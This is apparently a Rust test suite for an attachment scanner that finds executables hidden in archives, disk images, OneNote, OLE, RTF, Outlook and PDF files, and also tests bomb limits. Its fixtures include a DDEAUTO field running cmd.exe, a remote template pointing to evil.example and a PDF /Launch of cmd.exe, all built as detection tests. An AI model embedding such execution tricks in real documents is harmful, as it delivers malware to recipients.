//! Programs in archives of all sorts, and in one another: what common programs made, and what is made here.

use proptest::prelude::ProptestConfig;

use super::*;
use crate::attachments::archive::Budget;
use crate::attachments::magic;

mod made;

fn bytes(digits: &str) -> Vec<u8> {
    let pairs = digits.as_bytes().chunks(2);
    let byte = |pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap();
    pairs.map(byte).collect()
}

/// Kind and path of what is found.
fn found(name: &str, content: &[u8]) -> Vec<(Kind, String)> {
    let found = look(&sight(name, "application/octet-stream", content));
    found.into_iter().map(|one| (one.kind, one.file)).collect()
}

fn program_at(path: &str) -> Vec<(Kind, String)> {
    vec![(Kind::Program, path.to_owned())]
}

const PACKED_TARS: &[(&str, &str)] = &[
    ("b.tar.xz", made::TAR_XZ),
    ("b.tar.bz2", made::TAR_BZIP2),
    ("b.tar.zst", made::TAR_ZSTD),
    ("b.tar.lz", made::TAR_LZIP),
    ("b.tar.lzma", made::TAR_LZMA),
];

#[test]
fn packed_tar_archives_alone_and_in_others() {
    for (name, digits) in PACKED_TARS {
        let packed = bytes(digits);
        assert_eq!(
            found(name, &packed),
            program_at(&format!("{name} > run.exe"))
        );
        let zipped = zip(&[(name, &packed, 0)]);
        let in_zip = format!("a.zip > {name} > run.exe");
        assert_eq!(found("a.zip", &zipped), program_at(&in_zip));
        let in_tar = format!("a.tgz > {name} > run.exe");
        assert_eq!(
            found("a.tgz", &gzip(&tar(name, &packed))),
            program_at(&in_tar)
        );
        let in_gzip = format!("{name}.gz > {name} > run.exe");
        assert_eq!(
            found(&format!("{name}.gz"), &gzip(&packed)),
            program_at(&in_gzip)
        );
        // Cut off, and broken in the middle: never without a word.
        for cut in [packed.len() / 2, packed.len() - 30] {
            let mut broken = packed.clone();
            broken[cut] ^= 0x55;
            broken[cut + 1] ^= 0xff;
            assert_ne!(found(name, &broken), [], "{name} {cut}");
        }
    }
}

#[test]
fn archives_that_programs_made() {
    let program = |path: &str| (Kind::Program, path.to_owned());
    type Row<'a> = (&'a str, &'a str, &'a [(Kind, String)]);
    let table: &[Row<'_>] = &[
        (
            "a.7z",
            made::SEVENZ,
            &[program("a.7z > invoice.dat"), program("a.7z > run.exe")],
        ),
        (
            "a.7z",
            made::SEVENZ_OF_TAR_XZ,
            &[program("a.7z > b.tar.xz > run.exe")],
        ),
        // What is in it cannot be seen, and it is an archive.
        (
            "a.7z",
            made::SEVENZ_PPMD,
            &[(Kind::TooDeep, "a.7z > b.tar.xz".to_owned())],
        ),
        (
            "a.7z",
            made::SEVENZ_LOCKED,
            &[(Kind::LockedArchive, "a.7z".to_owned())],
        ),
        ("a.cab", made::CAB, &[program("a.cab > invoice.dat")]),
        ("a.arj", made::ARJ, &[program("a.arj > run.exe")]),
        ("a.lzh", made::LHA, &[program("a.lzh > run.exe")]),
    ];
    for (name, digits, want) in table {
        let content = bytes(digits);
        assert_eq!(found(name, &content), *want, "{name}");
        // Inside another one as well.
        let inner = found("b.zip", &zip(&[(name, &content, 0)]));
        let want: Vec<(Kind, String)> = want
            .iter()
            .map(|(kind, path)| (*kind, format!("b.zip > {path}")))
            .collect();
        assert_eq!(inner, want, "{name} in zip");
    }
}

/// A folder with one file, and what they lie in.
fn iso(name: &[u8], content: &[u8]) -> Vec<u8> {
    let record = |name: &[u8], sector: u32, length: usize, flags: u8| {
        let mut record = vec![u8::try_from(33 + name.len()).unwrap(), 0];
        record.extend(sector.to_le_bytes());
        record.extend([0; 4]);
        record.extend(u32::try_from(length).unwrap().to_le_bytes());
        record.resize(25, 0);
        record.push(flags);
        record.resize(32, 0);
        record.push(u8::try_from(name.len()).unwrap());
        record.extend(name);
        record
    };
    let mut out = vec![0; 16 * 2048];
    out.extend(b"\x01CD001\x01");
    out.resize(16 * 2048 + 156, 0);
    out.extend(record(&[0], 18, 2048, 2));
    out.resize(17 * 2048, 0);
    out.extend(b"\xffCD001\x01");
    out.resize(18 * 2048, 0);
    out.extend(record(&[0], 18, 2048, 2));
    out.extend(record(name, 19, content.len(), 0));
    out.resize(19 * 2048, 0);
    out.extend(content);
    out
}

#[test]
fn images_of_disks() {
    let image = |path: &str| (Kind::DiskImage, path.to_owned());
    let program = |path: &str| (Kind::Program, path.to_owned());
    let one = iso(b"RUN.EXE;1", b"?");
    assert_eq!(
        found("a.iso", &one),
        [program("a.iso > RUN.EXE"), image("a.iso")]
    );
    let inner = zip(&[("x.dat", &self::program(), 0)]);
    let two = found("a.img", &iso(b"B.ZIP;1", &inner));
    assert_eq!(two, [program("a.img > B.ZIP > x.dat"), image("a.img")]);
    // Another file system: what begins like a program at the beginning of a sector.
    let mut disk = vec![0; 512 * 9];
    let mut start = b"MZ\x90\x00".to_vec();
    start.resize(60, 0);
    start.extend(64_u32.to_le_bytes());
    start.extend(b"PE\0\0");
    disk.extend(start);
    disk.resize(512 * 12, 0);
    assert_eq!(
        found("a.vhd", &disk),
        [program("a.vhd > sector 9"), image("a.vhd")]
    );
    assert_eq!(found("a.vhd", &[0; 4096]), [image("a.vhd")]);
}

#[test]
fn notebooks_and_what_they_hold() {
    let mut notebook = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d".to_vec();
    notebook.resize(1024, 0);
    notebook.extend([
        0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e,
        0xac,
    ]);
    let program = program();
    notebook.extend(u64::try_from(program.len()).unwrap().to_le_bytes());
    notebook.extend([0; 12]);
    notebook.extend(program);
    let want = [
        (Kind::Program, "a.one > file 1".to_owned()),
        (Kind::Notebook, "a.one".to_owned()),
    ];
    assert_eq!(found("a.one", &notebook), want);
}

/// What a package of OLE holds.
fn package(path: &str, content: &[u8]) -> Vec<u8> {
    let mut out = vec![0, 0, 0, 0, 2, 0];
    for name in ["a picture", path] {
        out.extend(name.as_bytes());
        out.push(0);
    }
    out.extend([0, 0, 3, 0]);
    out.extend(u32::try_from(path.len() + 1).unwrap().to_le_bytes());
    out.extend(path.as_bytes());
    out.push(0);
    out.extend(u32::try_from(content.len()).unwrap().to_le_bytes());
    out.extend(content);
    out
}

/// An OLE container with streams, each of one run of sectors.
fn ole(streams: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut body = Vec::new();
    let mut table = vec![0xffff_fffd_u32];
    let mut directory = Vec::new();
    let mut record = |name: &str, start: u32, size: usize, child: u32, next: u32| {
        let mut wide: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let length = u16::try_from(wide.len() + 2).unwrap();
        wide.resize(64, 0);
        directory.extend(wide);
        directory.extend(length.to_le_bytes());
        directory.extend([2, 1, 0xff, 0xff, 0xff, 0xff]);
        for number in [next, child] {
            directory.extend(number.to_le_bytes());
        }
        directory.resize(directory.len() + 36, 0);
        directory.extend(start.to_le_bytes());
        directory.extend(u64::try_from(size).unwrap().to_le_bytes());
    };
    record("Root Entry", 0xffff_fffe, 0, 1, u32::MAX);
    for (at, (name, content)) in streams.iter().enumerate() {
        let start = u32::try_from(table.len()).unwrap();
        let size = content.len().max(4096);
        let next = if at + 1 < streams.len() {
            u32::try_from(at + 2).unwrap()
        } else {
            u32::MAX
        };
        record(name, start, size, u32::MAX, next);
        body.extend(content);
        body.resize((table.len() - 1) * 512 + size.next_multiple_of(512), 0);
        for _ in 1..size.div_ceil(512) {
            table.push(u32::try_from(table.len() + 1).unwrap());
        }
        table.push(0xffff_fffe);
    }
    let at = table.len();
    table.resize(at + directory.len().div_ceil(512), 0);
    for (place, next) in table.iter_mut().enumerate().skip(at) {
        *next = u32::try_from(place + 1).unwrap();
    }
    *table.last_mut().unwrap() = 0xffff_fffe;
    table.resize(128, u32::MAX);
    let mut out = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    out.resize(30, 0);
    out.extend(9_u16.to_le_bytes());
    out.resize(48, 0);
    out.extend(u32::try_from(at).unwrap().to_le_bytes());
    out.resize(60, 0);
    out.extend(u32::MAX.to_le_bytes());
    out.resize(68, 0);
    out.extend(u32::MAX.to_le_bytes());
    out.resize(76, 0);
    out.extend(0_u32.to_le_bytes());
    out.resize(512, 0xff);
    out.extend(table.iter().flat_map(|number| number.to_le_bytes()));
    out.extend(body);
    out.extend(directory);
    out.resize(out.len().next_multiple_of(512), 0);
    out
}

#[test]
fn files_in_office_documents() {
    let program = program();
    let object = ole(&[("\u{1}Ole10Native", package("C:\\x\\run.exe", &program))]);
    assert_eq!(found("a.doc", &object), program_at("a.doc > run.exe"));
    let letter = ole(&[("\u{1}Ole10Native", package("note.txt", b"hello"))]);
    assert_eq!(found("a.doc", &letter), []);
    let document = zip(&[
        ("[Content_Types].xml", b"<x/>", 0),
        ("word/embeddings/oleObject1.bin", &object, 0),
    ]);
    assert_eq!(
        found("a.docx", &document),
        program_at("a.docx > oleObject1.bin > run.exe")
    );
    let digits: String = package("run.exe", &program)
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    let head: String = b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0"
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    let length = "00010000";
    let rtf = format!("{{\\rtf1{{\\object{{\\*\\objdata {head}{length}\r\n{digits}}}}}}}");
    let rtf = rtf.replace(&format!("{length}\r\n"), "");
    assert_eq!(
        found("a.rtf", rtf.as_bytes()),
        program_at("a.rtf > run.exe")
    );
}

#[test]
fn what_is_attached_to_a_message_of_outlook() {
    let name: Vec<u8> = "offer.dat"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut message = ole(&[
        ("__substg1.0_37010102", zip(&[("x.dat", &program(), 0)])),
        ("__substg1.0_3707001F", name),
    ]);
    // The stream of the name is shorter than a sector: its length is the name's.
    let wide: Vec<u8> = "__substg1.0_3707001F"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let at = memchr::memmem::find(&message, &wide).unwrap();
    message[at + 120..at + 124].copy_from_slice(&4096_u32.to_le_bytes());
    let found = found("a.msg", &message);
    assert!(
        found
            .iter()
            .any(|(kind, path)| *kind == Kind::Program && path == "a.msg > offer.dat > x.dat"),
        "{found:?}"
    );
}

#[test]
fn documents_that_ask_other_programs() {
    let word = |field: &str| {
        let xml = format!("<w:r><w:instrText xml:space=\"preserve\">{field}</w:instrText></w:r>");
        found(
            "a.docx",
            &zip(&[
                ("[Content_Types].xml", b"<x/>", 0),
                ("word/document.xml", xml.as_bytes(), 0),
            ]),
        )
    };
    let macros = vec![(Kind::Macros, "a.docx".to_owned())];
    assert_eq!(
        word(" DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" "),
        macros
    );
    assert_eq!(word("DDE</w:instrText><w:instrText>AUTO cmd"), macros);
    assert_eq!(word(" PAGE "), []);
    assert_eq!(word(" HYPERLINK \"https://addendum.example/\" "), []);
    let sheet = zip(&[
        ("[Content_Types].xml", b"<x/>", 0),
        (
            "xl/externalLinks/externalLink1.xml",
            b"<ddeLink ddeService=\"cmd\"/>",
            0,
        ),
    ]);
    assert_eq!(
        found("a.xlsx", &sheet),
        [(Kind::Macros, "a.xlsx".to_owned())]
    );
    // A template from elsewhere, in the relations of any part.
    let relation = b"<Relationship Type=\"x/oleObject\" Target=\"https://evil.example/t\" TargetMode=\"External\"/>";
    let document = zip(&[
        ("[Content_Types].xml", b"<x/>", 0),
        ("word/_rels/footer1.xml.rels", relation, 0),
    ]);
    assert_eq!(
        found("a.docx", &document),
        [(Kind::RemoteTemplate, "a.docx".to_owned())]
    );
}

fn zlib(content: &[u8]) -> Vec<u8> {
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), Compression::default());
    packer.write_all(content).unwrap();
    packer.finish().unwrap()
}

#[test]
fn what_pdf_starts_and_holds() {
    let plain = b"%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>> 2 0 obj <</S /Launch /F (cmd.exe)>>";
    assert_eq!(
        found("a.pdf", plain),
        [(Kind::Shortcut, "a.pdf".to_owned())]
    );
    let objects = zlib(b"1 0 2 40 <</OpenAction 2 0 R>> <</S /Launch>>");
    let packed = [
        b"%PDF-1.7\n1 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\r\n".as_slice(),
        &objects,
        b"\nendstream",
    ]
    .concat();
    assert_eq!(
        found("a.pdf", &packed),
        [(Kind::Shortcut, "a.pdf".to_owned())]
    );
    let file = zlib(&zip(&[("x.dat", &program(), 0)]));
    let holds = [
        b"%PDF-1.7\n1 0 obj <</Type /Filespec /F (a.js) /EF <</F 2 0 R>>>> 2 0 obj <</Type /EmbeddedFile /Filter /FlateDecode>> stream\n".as_slice(),
        &file,
        b"\nendstream",
    ]
    .concat();
    let want = [
        (Kind::Program, "a.pdf > file 1 > x.dat".to_owned()),
        (Kind::Script, "a.pdf > a.js".to_owned()),
    ];
    assert_eq!(found("a.pdf", &holds), want);
    let form = b"%PDF-1.7\n<</Names [(x) <</S /JavaScript /JS (this.print)>>]>>";
    assert_eq!(found("a.pdf", form), []);
}

fn lzma(content: &[u8]) -> Vec<u8> {
    let options = lzma_rust2::LzmaOptions::with_preset(0);
    let mut packer = lzma_rust2::LzmaWriter::new_use_header(Vec::new(), &options, None).unwrap();
    packer.write_all(content).unwrap();
    packer.finish().unwrap()
}

#[test]
fn bombs_end_where_the_budget_does() {
    let zeros = vec![0; 3 * limits::UNPACKED_COST_MIN];
    let bomb = tar("zeros.dat", &zeros);
    let zstd = |content: &[u8]| {
        let level = ruzstd::encoding::CompressionLevel::Fastest;
        ruzstd::encoding::compress_to_vec(content, level)
    };
    for (name, packed) in [
        ("a.tgz", gzip(&bomb)),
        ("a.tar.lzma", lzma(&bomb)),
        ("a.tar.zst", zstd(&bomb)),
    ] {
        assert_eq!(found(name, &packed), [(Kind::TooDeep, name.to_owned())]);
    }
    // What is kept of one file is little, whatever it becomes.
    let mut budget = Budget::new(1_000);
    let content = budget.take(&mut zeros.as_slice(), "a.dat", usize::MAX);
    assert!(content.1 && content.0.len() <= limits::UNPACKED_HEAD_BYTES);
    let content = budget.take(&mut zeros.as_slice(), "a.html", usize::MAX);
    assert!(content.1 && content.0.len() <= limits::UNPACKED_FILE_BYTES_MAX);
}

/// Its first chunk says that it is longer than the file. Readers must not be asked again after an error.
#[test]
fn a_chunk_that_promises_more_than_there_is() {
    let mut packed = bytes(made::TAR_XZ);
    packed[27] = 0xff;
    assert_eq!(found("a.xz", &packed), [(Kind::TooDeep, "a.xz".to_owned())]);
}

proptest! {
    // Some break so that they go on for megabytes.
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// What programs made, with noise in the middle, on all ways that look at archives.
    #[test]
    fn nothing_made_by_programs_and_broken_panics(which in 0_usize..12, at in any::<u16>(), noise: Vec<u8>, name in "[a-z]{1,3}\\.(7z|iso|img|xz|cab|arj|pdf|one|msg|lzh|ace)") {
        let all = [
            made::TAR_XZ, made::TAR_BZIP2, made::TAR_ZSTD, made::TAR_LZIP, made::TAR_LZMA, made::SEVENZ,
            made::SEVENZ_OF_TAR_XZ, made::SEVENZ_PPMD, made::SEVENZ_LOCKED, made::CAB, made::ARJ, made::LHA,
        ];
        let mut content = bytes(all[which]);
        let at = usize::from(at) % content.len();
        let end = (at + noise.len()).min(content.len());
        content[at..end].copy_from_slice(&noise[..end - at]);
        look(&sight(&name, "application/octet-stream", &content));
        magic::of(&content);
    }

    /// Bytes behind each mark.
    #[test]
    fn nothing_behind_a_mark_panics(which in 0_usize..10, noise in proptest::collection::vec(any::<u8>(), 0..2_000)) {
        let marks: [&[u8]; 10] = [
            b"%PDF-1.7 /ObjStm stream\n\x78\x9c", b"%PDF-1.7 /EF /EmbeddedFile stream\n", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"{\\rtf\\objdata ", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d", b"MSCF\0\0\0\0", b"\x60\xea\x20\x00", b"BZh9",
            b"\x00\x00\x00\x00\x00\x00\x00**ACE**", b"\x5d\x00\x00\x80\x00\xff\xff\xff\xff\xff\xff\xff\xff\x00",
        ];
        let content = [marks[which], &noise].concat();
        look(&sight("a.dat", "application/octet-stream", &content));
    }
}
